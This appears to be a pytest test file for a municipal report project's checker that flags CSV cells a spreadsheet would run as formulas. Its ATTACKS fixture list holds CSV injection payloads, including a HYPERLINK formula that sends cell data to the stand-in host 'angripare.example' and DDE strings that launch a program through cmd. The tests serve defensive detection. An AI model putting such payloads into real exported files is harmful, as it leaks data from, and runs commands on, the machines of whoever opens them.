"""`check` warns of text cells that a spreadsheet would run as a formula (OWASP CSV injection: a first
character of = + - @, tab or carriage return), with file, row and column; the value is kept as written,
numbers and a lone "-" are not flagged, and the 2024 data gives no such warning."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from rapportbok.checks.check import check_year
from rapportbok.checks.formulas import formula_like, formula_warnings
from rapportbok.data.load import book_of, load_year
from tests.conftest import ROOT

ORG = "kommunstyrelsekontoret"
FILE = f"data/{ORG}/2024/uppdrag.csv"
ATTACKS = [
    '=HYPERLINK("http://angripare.example/?d="&A1;"Klicka")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "- punkt",  # a spreadsheet takes it for a formula too (#NAMN?)
]
HARMLESS = ["-", " - ", "-5", "+3,5", "-7.25", "Text - med streck", " =inte först", "–tankstreck", ""]


@pytest.mark.parametrize("cell", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_is_formula_like(cell: str) -> None:
    assert formula_like(cell)


@pytest.mark.parametrize("cell", HARMLESS)
def test_numbers_a_lone_dash_and_ordinary_text_are_not(cell: str) -> None:
    assert not formula_like(cell)


def _with_comments(project: Path, comments: list[str]) -> list[list[str]]:
    """uppdrag.csv with its first rows' `kommentar` replaced by `comments`; the rows as written."""
    path = project / FILE
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    column = rows[0].index("kommentar")
    for row, comment in zip(rows[1:], comments, strict=False):
        row[column] = comment
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(
            rows
        )  # a CR stays in its cell
    return rows


def test_check_names_file_row_and_column_and_keeps_the_value(project_copy: Path) -> None:
    comments = [*ATTACKS, "-5", "-"]
    _with_comments(project_copy, comments)
    result = check_year(book_of(2024, project_copy / "data" / ORG))
    found = [w for w in result.warnings if "kalkylprogram" in str(w)]
    assert [(w.file, w.row, w.column) for w in found] == [(FILE, row, "kommentar") for row in range(2, 9)]
    assert str(found[0]).startswith(f'{FILE}, rad 2, kolumn "kommentar": texten börjar med "=", så ett')
    assert "tabbtecken" in str(found[4]) and "vagnretur" in str(found[5])
    assert "värdet publiceras oförändrat" in str(found[0])
    assert not result.problems  # a warning: nothing stops the build
    published = load_year(2024, project_copy / "data" / ORG).tables["uppdrag"]["kommentar"].tolist()
    assert published[0] == comments[0] and published[3] == comments[3]  # exactly as written


def test_number_columns_are_not_flagged(project_copy: Path) -> None:
    """drift.csv's negative amounts are numbers in number columns."""
    report = load_year(2024, project_copy / "data" / ORG)
    assert (project_copy / f"data/{ORG}/2024/drift.csv").read_text(encoding="utf-8").count(",-") > 5
    assert formula_warnings(report) == []


def test_the_2024_data_gives_no_formula_warning() -> None:
    report = load_year(2024, ROOT / "data" / ORG)
    assert formula_warnings(report) == []
